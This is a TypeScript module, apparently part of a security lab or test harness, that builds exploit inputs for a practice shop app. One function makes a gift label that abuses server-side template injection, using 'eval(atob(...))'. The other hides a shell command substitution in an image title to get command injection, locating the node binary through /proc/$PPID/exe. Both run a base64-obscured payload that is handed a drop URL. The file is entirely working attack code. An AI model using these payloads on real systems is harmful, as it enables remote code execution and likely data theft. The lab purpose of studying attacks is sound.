import { readFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { Random } from '../datasets/random.ts';
import { drawPicture } from './picture.ts';

const PAYLOAD = join(resolve(import.meta.dirname, '../../../..'), 'packages/lab/apps/shop/exploit/payload.cjs');

/** A gift label whose expression runs the payload inside `label` (server-side template injection). */
export function labelText(step: string, dropUrl: string): string {
  return `For {{ eval(atob('${encoded(step, dropUrl)}')) }}`;
}

/**
 * A small picture whose title is a command substitution for the shell that `thumbnail` starts (command injection). It runs the
 * payload in a child with the program of its own parent, wherever that is.
 */
export function pictureWith(step: string, dropUrl: string): Buffer {
  const node = 'N=/proc/$PPID/exe; [ -x $N ] || N=node;';
  const title = `$(${node} $N -e 'eval(atob(process.argv[1]))' ${encoded(step, dropUrl)})`;
  return drawPicture({ widthPx: 240, heightPx: 160, title }, new Random(1, 'exploit'));
}

/** A call of the payload, as base64, so that no character of it means anything on its way. */
function encoded(step: string, dropUrl: string): string {
  const source = readFileSync(PAYLOAD, 'utf8')
    .trim()
    .replace(/;$/, '')
    .replace(/^\/\/.*$/gm, '')
    .trim();
  return Buffer.from(`(${source})(${JSON.stringify(step)}, ${JSON.stringify(dropUrl)})`).toString('base64');
}
